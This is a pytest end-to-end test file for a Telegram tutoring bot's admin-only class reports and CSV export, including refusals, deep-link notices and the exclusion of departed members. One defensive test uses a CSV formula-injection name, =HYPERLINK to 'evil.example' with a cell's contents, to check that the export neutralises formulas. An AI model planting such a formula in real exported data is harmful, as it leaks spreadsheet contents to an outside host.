"""A teacher's view end to end: the report after a session, /report and /export in private,
the deep link where the bot cannot write to an admin, and what anyone else gets."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from typing import Any

import pytest

from playground.botapi import BotApiStandin, Chat, ChatMessage, UserHandle
from tests.e2e.conftest import TOKEN, FakeClock, RunningBot, rows
from tests.e2e.test_classroom import TIME_SCALE, answer, next_poll
from tutor.store import ClassMemory, Database, LeftMember, PollVote, ReportNotice

GROUP_ID = -1009876543210
LINK = "https://t.me/lr_tutor_bot?start=reports"


@pytest.fixture
async def server() -> AsyncIterator[BotApiStandin]:
    async with BotApiStandin(
        token=TOKEN, username="lr_tutor_bot", time_scale=TIME_SCALE
    ) as server:
        yield server


@pytest.fixture
def teacher(server: BotApiStandin) -> UserHandle:
    return server.user(5000, "Tess")


@pytest.fixture
def members(server: BotApiStandin) -> list[UserHandle]:
    return [server.user(5001 + n, name) for n, name in enumerate(["Bob", "Carol", "Dave"])]


@pytest.fixture
def group(server: BotApiStandin, teacher: UserHandle, members: list[UserHandle]) -> Chat:
    return server.group(GROUP_ID, "ML 101", members=members, admins=[teacher])


def asked(poll: ChatMessage) -> str:
    """The question a session poll asked, without its "[1/2] " prefix."""
    assert poll.poll is not None
    return poll.poll.question.split("] ", 1)[1]


def private_sends(server: BotApiStandin, *user_ids: int) -> list[str]:
    """The methods the bot called to write into these users' private chats."""
    return [
        request.method
        for method in ("sendMessage", "sendPhoto", "sendDocument")
        for request in server.requests(method)
        if request.chat_id in {*user_ids, *map(str, user_ids)}
    ]


async def play(
    teacher: UserHandle, group: Chat, members: list[UserHandle], rights: list[list[bool]]
) -> list[ChatMessage]:
    """/quiz with one question per row of ``rights`` (each member's answer right or not),
    until the leaderboard; returns the polls."""
    await teacher.send(f"/quiz {len(rights)} 5", chat=group)
    polls: list[ChatMessage] = []
    for row in rights:
        poll = await next_poll(teacher, group, after=polls[-1] if polls else None)
        for member, right in zip(members, row, strict=True):
            await answer(member, poll, right=right)
        polls.append(poll)
    await teacher.wait_for_message(lambda m: "Quiz over" in (m.text or ""), chat=group, timeout=10)
    return polls


async def test_the_admin_gets_the_session_report_and_the_export_in_private(
    server: BotApiStandin,
    running_bot: RunningBot,
    store: Database,
    teacher: UserHandle,
    members: list[UserHandle],
    group: Chat,
) -> None:
    bob, carol, dave = members
    async with running_bot():
        await teacher.send("/start")
        await teacher.wait_for_message()
        first, second = await play(
            teacher, group, members, [[True, True, False], [True, False, False]]
        )

        report = await teacher.wait_for_message(
            lambda m: (m.text or "").startswith("📋 Quiz report"), timeout=10
        )
        text = report.text or ""
        lines = text.splitlines()
        # Each question by its text (long ones cut to a line), then its figures.
        for number, (poll, figures) in enumerate(
            [(first, "67% right (2/3) · median "), (second, "33% right (1/3) · median ")], 1
        ):
            at = next(i for i, line in enumerate(lines) if line.startswith(f"{number}. "))
            assert asked(poll).startswith(lines[at][len(f"{number}. ") :].removesuffix("…"))
            assert lines[at + 1].startswith(f"    {figures}")
        assert "most picked wrong: “" in text
        assert lines[2] == "3 members answered 2 questions."
        assert lines[-1] == "Fewer than half right: Dave (0/2)"
        chart = await teacher.wait_for_message(lambda m: m.photo is not None, timeout=20)
        assert chart.caption == "Share of members who answered each question right."

        await teacher.send("/export", chat=group)
        sent = await teacher.wait_for_message(chat=group)
        assert sent.text == "Sent you the file in private."
        document = await teacher.wait_for_message(lambda m: m.document is not None)
        assert document.document is not None
        assert document.caption == "Every answer in ML 101: 6 answers, times in UTC."
        table = list(csv.reader(io.StringIO(document.document.decode("utf-8-sig"))))
        assert table[0] == [
            "session", "date (UTC)", "time (UTC)", "question id", "question", "member id",
            "member", "option chosen", "correct", "seconds", "source",
        ]  # fmt: skip
        assert len(table) == 1 + 6
        assert sorted((row[6], row[4], row[8]) for row in table[1:]) == sorted(
            [
                ("Bob", asked(first), "1"), ("Carol", asked(first), "1"),
                ("Dave", asked(first), "0"), ("Bob", asked(second), "1"),
                ("Carol", asked(second), "0"), ("Dave", asked(second), "0"),
            ]
        )  # fmt: skip
        assert first.poll is not None
        right_option = first.poll.options[first.poll.correct_option_id or 0]
        assert {row[7] for row in table[1:] if row[4] == asked(first) and row[8] == "1"} == {
            right_option
        }

        # A member asks: a refusal in the group, no file anywhere.
        await bob.send("/export", chat=group)
        refusal = await bob.wait_for_message(chat=group)
        assert refusal.text == (
            "Only the chat's admins can export the class's answers; it goes to them in private."
        )
        await bob.send("/report", chat=group)
        assert (await bob.wait_for_message(chat=group)).text == (
            "Only the chat's admins can get the class's report; it goes to them in private."
        )
        await server.settle()
    assert len(server.requests("sendDocument")) == 1
    assert private_sends(server, bob.id, carol.id, dave.id) == []
    # The class remembers both questions, from the shares right (2/3 Hard, 1/3 Again).
    memories = await rows(store, ClassMemory, chat_id=GROUP_ID)
    assert sorted(m.reps for m in memories) == [1, 1] and len(memories) == 2
    votes = await rows(store, PollVote)
    assert len(votes) == 6 and all(v.chosen_option is not None for v in votes)


async def test_report_shows_the_class_and_forgotten_members_drop_out(
    server: BotApiStandin,
    running_bot: RunningBot,
    teacher: UserHandle,
    members: list[UserHandle],
    group: Chat,
) -> None:
    dave = members[2]
    async with running_bot():
        await play(teacher, group, members, [[True, True, False]])
        await teacher.wait_for_message(lambda m: m.photo is not None, timeout=20)

        await teacher.send("/report 7", chat=group)
        assert (await teacher.wait_for_message(chat=group)).text == (
            "Sent you the report in private."
        )
        report = await teacher.wait_for_message(
            lambda m: (m.text or "").startswith("📊 Class report")
        )
        text = report.text or ""
        assert text.splitlines()[0] == "📊 Class report: ML 101, the last 7 days"
        assert text.splitlines()[1] == "3 members gave 3 answers to 1 question."
        members_part = text.split("Members, weakest first")[1].splitlines()[1:]
        assert members_part == ["Dave: 0% (1)", "Bob: 100% (1)", "Carol: 100% (1)"]
        heatmap = await teacher.wait_for_message(lambda m: m.photo is not None, timeout=20)
        assert heatmap.caption == "Share right per member and deck (the 3 weakest members)."

        # Dave's /forget takes him out of every later report and export.
        await dave.send("/forget")
        ask = await dave.wait_for_message()
        await (await dave.press(ask, "Yes, delete everything")).answered()
        await dave.wait_for_edit(ask)
        await teacher.send("/report", chat=group)
        await teacher.wait_for_message(chat=group)
        again = await teacher.wait_for_message(
            lambda m: (m.text or "").startswith("📊 Class report")
        )
        assert "Dave" not in (again.text or "")
        await teacher.send("/export", chat=group)
        document = await teacher.wait_for_message(lambda m: m.document is not None)
        assert document.document is not None
        table = list(csv.reader(io.StringIO(document.document.decode("utf-8-sig"))))
        assert sorted(row[6] for row in table[1:]) == ["Bob", "Carol"]


async def test_a_daily_quiz_reports_to_the_admin_who_set_it(
    server: BotApiStandin,
    running_bot: RunningBot,
    teacher: UserHandle,
    members: list[UserHandle],
    group: Chat,
) -> None:
    clock = FakeClock(datetime(2026, 3, 2, 6, 59, tzinfo=UTC))
    async with running_bot(clock=clock, reminder_interval=0.3):
        await teacher.send("/daily 07:00 1", chat=group)
        assert (await teacher.wait_for_message(chat=group)).text == (
            "A quiz of 1 question every day at 07:00 (UTC)."
        )
        clock.advance(minutes=2)
        poll = await next_poll(teacher, group)
        for member in members:
            await answer(member, poll, right=member is not members[0])
        report = await teacher.wait_for_message(
            lambda m: (m.text or "").startswith("📋 Quiz report"), timeout=20
        )
    lines = (report.text or "").splitlines()
    assert lines[1] == "2 Mar 2026, 07:01 (UTC)"
    assert lines[5].startswith("    67% right (2/3) · median ")
    assert lines[-1] == "Fewer than half right: Bob (0/1)"


async def test_a_member_who_starts_a_quiz_in_an_open_chat_gets_no_report(
    server: BotApiStandin,
    running_bot: RunningBot,
    teacher: UserHandle,
    members: list[UserHandle],
    group: Chat,
) -> None:
    bob = members[0]
    async with running_bot():
        await teacher.send("/access everyone", chat=group)
        await teacher.wait_for_message(chat=group)
        await play(bob, group, members, [[True, False, True]])
        await server.settle()
    assert private_sends(server, bob.id, teacher.id) == []
    assert [m for m in group.bot_messages if LINK in (m.text or "")] == []


async def test_an_admin_the_bot_cannot_write_to_is_told_once_in_the_group(
    server: BotApiStandin,
    running_bot: RunningBot,
    store: Database,
    members: list[UserHandle],
) -> None:
    erin = server.user(5100, "Erin", started=False)
    group = server.group(GROUP_ID, "ML 101", members=members, admins=[erin])
    async with running_bot():
        for _ in range(2):
            await play(erin, group, members, [[True, False, True]])
            await server.settle()
        notices = [m for m in group.bot_messages if LINK in (m.text or "")]
        assert [m.text for m in notices] == [
            f"Erin, I can't send you this class's quiz reports: open {LINK} and press Start "
            "to get them in private."
        ]
        await erin.send("/export", chat=group)
        assert (await erin.wait_for_message(chat=group)).text == (
            f"I can't write to you in private yet: open {LINK} and press Start, then send "
            "/export again."
        )
        # Started: the next report comes in private.
        await erin.send("/start")
        await erin.wait_for_message()
        await erin.send("/report", chat=group)
        assert (await erin.wait_for_message(chat=group)).text == "Sent you the report in private."
        await erin.wait_for_message(lambda m: (m.text or "").startswith("📊 Class report"))
    assert [(n.chat_id, n.learner_id) for n in await rows(store, ReportNotice)] == [
        (GROUP_ID, erin.id)
    ]


async def test_bad_input_gets_a_short_reply_and_nothing_is_sent_elsewhere(
    server: BotApiStandin,
    running_bot: RunningBot,
    teacher: UserHandle,
    members: list[UserHandle],
    group: Chat,
) -> None:
    bob = members[0]
    usage = "Usage: /report [days 1-365], for example /report 7 (default: the last 30 days)."
    export_usage = "Usage: /export (no arguments): every answer of this chat as a CSV file."
    async with running_bot():
        for command, reply in [
            ("/report abc", usage),
            ("/report 9999", usage),
            ("/report 0", usage),
            ("/export now", export_usage),
            ("/report", "Nobody answered a quiz here in the last 30 days. Start one with /quiz."),
            ("/export", "Nobody has answered a quiz here yet. Start one with /quiz."),
        ]:  # fmt: skip
            await teacher.send(command, chat=group)
            assert (await teacher.wait_for_message(chat=group)).text == reply, command
        await bob.send("/report 7", chat=group)
        assert "Only the chat's admins" in ((await bob.wait_for_message(chat=group)).text or "")

        # In private, /export is the learner's own export, never the class's.
        await bob.send("/export")
        assert (await bob.wait_for_message()).text == (
            "Nothing to export yet: review a few cards (/review) or send me a deck file."
        )
        await server.settle()
    assert private_sends(server, teacher.id) == []
    assert private_sends(server, bob.id) == ["sendMessage"]  # the reply to his own /export
    assert server.requests("sendDocument") == [] and server.requests("sendPhoto") == []


async def wait_for_rows(store: Database, table: Any, count: int, **where: Any) -> None:
    """Until the store holds ``count`` such rows (what an update's handler wrote)."""
    for _ in range(200):
        if len(await rows(store, table, **where)) == count:
            return
        await asyncio.sleep(0.05)
    raise AssertionError(f"{table.__name__}: never {count} rows")


async def test_the_export_runs_no_formula_leaves_out_who_left_and_stops_once_demoted(
    server: BotApiStandin, running_bot: RunningBot, store: Database, teacher: UserHandle
) -> None:
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+Bob", "-Carol", "@Dave"]
    members = [server.user(6001 + n, name) for n, name in enumerate(names)]
    group = server.group(GROUP_ID, "ML 101", members=members, admins=[teacher])
    dave = members[3]
    async with running_bot():
        await play(teacher, group, members, [[True, False, True, False]])

        # Dave leaves the group: Telegram's service message tells the bot.
        group.set_status(dave, "left")
        server.inject(
            "message",
            {
                "message_id": 10_000, "date": int(time.time()), "chat": group.api(),
                "from": dave.info.api(), "left_chat_member": dave.info.api(),
            },
            chat=group,
        )  # fmt: skip
        await wait_for_rows(store, LeftMember, 1, chat_id=GROUP_ID, learner_id=dave.id)

        await teacher.send("/export", chat=group)
        document = await teacher.wait_for_message(lambda m: m.document is not None)
        assert document.document is not None
        table = list(csv.reader(io.StringIO(document.document.decode("utf-8-sig"))))
        cells = [cell for row in table for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        # Each name as typed behind one quote; Dave, who left, is not there.
        assert sorted(row[6] for row in table[1:]) == sorted("'" + n for n in names[:3])
        assert document.caption == "Every answer in ML 101: 3 answers, times in UTC."

        # Demoted: the next /export is refused at once (Telegram is asked afresh).
        group.set_status(teacher, "member")
        await teacher.send("/export", chat=group)
        refusal = await teacher.wait_for_message(
            lambda m: "Only the chat's admins" in (m.text or ""), chat=group
        )
        assert refusal.text == (
            "Only the chat's admins can export the class's answers; it goes to them in private."
        )
        await server.settle()
    assert len(server.requests("sendDocument")) == 1


async def test_a_member_removed_is_out_of_the_export_until_they_join_again(
    server: BotApiStandin,
    running_bot: RunningBot,
    store: Database,
    teacher: UserHandle,
    members: list[UserHandle],
    group: Chat,
) -> None:
    carol = members[1]

    async def exported_names() -> list[str]:
        before = teacher.chat.last_message
        await teacher.send("/export", chat=group)
        document = await teacher.wait_for_message(
            lambda m: m.document is not None and m is not before
        )
        assert document.document is not None
        table = list(csv.reader(io.StringIO(document.document.decode("utf-8-sig"))))
        return sorted(row[6] for row in table[1:])

    async with running_bot():
        await play(teacher, group, members, [[True, False, True]])
        # Removed by an admin: where the bot is an admin, Telegram sends a chat_member update.
        group.set_status(carol, "kicked")
        server.inject(
            "chat_member",
            {
                "chat": group.api(), "from": teacher.info.api(), "date": int(time.time()),
                "old_chat_member": {"status": "member", "user": carol.info.api()},
                "new_chat_member": {"status": "kicked", "user": carol.info.api(),
                                    "until_date": 0},
            },
            chat=group,
        )  # fmt: skip
        await wait_for_rows(store, LeftMember, 1, chat_id=GROUP_ID)
        assert await exported_names() == ["Bob", "Dave"]

        # Added back: the service message says so, and her answers count again.
        group.set_status(carol, "member")
        server.inject(
            "message",
            {
                "message_id": 10_001, "date": int(time.time()), "chat": group.api(),
                "from": teacher.info.api(), "new_chat_members": [carol.info.api()],
            },
            chat=group,
        )  # fmt: skip
        await wait_for_rows(store, LeftMember, 0, chat_id=GROUP_ID)
        assert await exported_names() == ["Bob", "Carol", "Dave"]
